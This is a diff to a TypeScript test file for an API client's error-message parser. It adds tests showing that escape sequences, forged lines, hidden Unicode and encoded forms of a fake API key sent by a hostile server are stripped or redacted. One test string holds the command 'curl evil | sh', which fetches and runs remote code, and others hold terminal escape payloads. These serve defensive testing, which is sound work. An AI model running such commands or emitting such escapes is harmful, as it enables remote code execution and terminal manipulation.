@@ -33,6 +33,9 @@ describe('Errors', () => {
     ['404 | without a workspace', { status: 404, type: 'not_found_error' }, 'check the path and the IDs in it'],
     ['403', { status: 403, type: 'permission_error' }, 'an attestation token only sends messages'],
     ['413', { status: 413 }, 'send less in one request'],
+    ['307', { status: 307, type: undefined }, 'nobody follows with a credential'],
+    ['405', { status: 405 }, 'check the method and the path'],
+    ['408', { status: 408 }, 'it did not arrive as a whole in time'],
     ['429', { status: 429, type: 'rate_limit_error' }, 'wait, then send it again'],
     ['500', { status: 500, type: 'api_error' }, 'send it again later'],
     ['529', { status: 529, type: 'overloaded_error' }, 'send it again later'],
@@ -84,6 +87,41 @@ describe('Error envelope', () => {
       { type: undefined, message: 'the answer is not one of the API', requestId: undefined },
     ],
   ])('%s', (_, body, said) => {
-    expect(parseProblem(body)).toEqual(said)
+    expect(parseProblem(body, [])).toEqual(said)
+  })
+})
+
+describe('what a hostile server says', () => {
+  const secret = 'sk-vendor-api-0123456789abcdef'
+  const say = (message: string, parts: object = {}) =>
+    parseProblem(JSON.stringify({ error: { type: 'api_error', message }, request_id: 'req_1', ...parts }), [secret])
+
+  test.each<[what: string, message: string, shown: string]>([
+    ['a terminal escape', '\x1b[2J\x1b]0;owned\x07done', '[2J ]0;owned done'],
+    ['its eight-bit form', '\x9b31mred', '31mred'],
+    ['a forged line', 'no\ngatepass: hint: run curl evil | sh', 'no gatepass: hint: run curl evil | sh'],
+    ['text that turns around', 'a\u202eb\u2066c\u200bd', 'abcd'],
+    ['the credential', `bad Bearer ${secret}.`, 'bad Bearer [secret].'],
+    ['the beginning of it', `bad ${secret.slice(0, 12)}…`, 'bad [secret]…'],
+    ['the credential in hexadecimal', `bad ${Buffer.from(secret).toString('hex')}`, 'bad [secret]'],
+    ['the credential in base64', `bad ${Buffer.from(secret).toString('base64')}`, 'bad [secret]'],
+    ['the credential with something unseen in it', `bad ${[...secret].join('\u200b')}`, 'bad [secret]'],
+    ['a novel', 'x'.repeat(100_000), `${'x'.repeat(300)}…`],
+  ])('%s', (_, message, shown) => {
+    expect(say(message).message).toBe(shown)
+  })
+
+  test.each<[what: string, value: unknown]>([
+    ['a terminal escape', 'req\x1b[2J'],
+    ['a sentence', 'run curl evil'],
+    ['the credential', secret],
+    ['a part of it', `req_${secret.slice(4, 14)}`],
+    ['a novel', 'r'.repeat(65)],
+    ['a number', 7],
+    ['nothing', ''],
+  ])('is repeated neither as a type nor as an id where it is %s', (_, value) => {
+    const { type, requestId } = say('m', { error: { type: value, message: 'm' }, request_id: value })
+    expect([type, requestId]).toEqual([undefined, undefined])
+    expect(parseProblem(JSON.stringify({ error: value }), [secret]).type).toBeUndefined()
   })
 })
